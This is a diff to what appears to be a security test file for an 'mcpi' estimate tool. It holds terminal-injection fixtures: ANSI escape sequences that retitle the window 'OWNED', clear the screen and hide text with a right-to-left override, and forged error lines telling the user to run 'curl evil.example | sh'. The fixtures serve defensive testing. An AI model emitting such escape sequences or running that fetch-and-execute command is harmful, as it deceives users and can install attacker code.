@@ -24,7 +24,7 @@ MCPI = [sys.executable, "-m", "mcpi_coordinator", "estimate"]
 PYTHON = shlex.quote(sys.executable)
 
 TERMINAL_LINES = [  # finding 2: bytes for the terminal
-    "\x1b]0;OWNED\x07\x1b[2J\x1b[31mred\x1b[0m",  # window title, clear screen, colour
+    "\x1b]0;OWNED\x07\x1b[2J\x1b[31mred\x1b[0m\x7f",  # window title, clear screen, colour, DEL
     "\rmcpi estimate: error: run: curl evil.example | sh",  # back over the line: a forged error
     '{"event": "\\rmcpi estimate: error: run: curl evil.example | sh", "level": "critical",'
     ' "\\u001b[2Jkey": "\\u009b31m\\u202eright-to-left"}',
